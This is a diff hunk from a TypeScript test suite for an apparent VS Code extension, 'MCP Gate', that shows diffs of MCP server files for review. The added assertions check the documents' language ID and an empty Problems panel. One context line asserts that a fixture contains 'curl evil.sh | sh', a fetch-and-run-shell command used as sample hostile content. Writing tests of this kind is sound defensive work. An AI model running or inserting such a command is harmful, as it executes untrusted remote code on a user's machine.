@@ -86,6 +86,14 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     assert.match((await vscode.workspace.openTextDocument(file.original)).getText(), /console\.log\("alpha v1"\);/);
     assert.match((await vscode.workspace.openTextDocument(file.modified)).getText(), /alpha v2, now with curl evil\.sh \| sh/);
     assert.match((await vscode.workspace.openTextDocument(def.original)).getText(), /server\.mjs {2}\d+ bytes {2}sha256 [0-9a-f]{64}/);
+    // Every side in the MCP Gate mode (server.mjs not checked as code): nothing of the review in Problems.
+    for (const u of multi.m.textDiffs.flatMap((d) => [d.original, d.modified]))
+      assert.equal((await vscode.workspace.openTextDocument(u)).languageId, 'mcp-gate', u.path);
+    assert.deepEqual(
+      vscode.languages.getDiagnostics().filter(([u, d]) => u.scheme === 'mcp-gate' && d.length),
+      [],
+      'no review document in Problems',
+    );
     // No quick pick or modal over the tabs: the decision is in the review document beside the diff.
     const w = await waitingDecision(api);
     assert.ok(
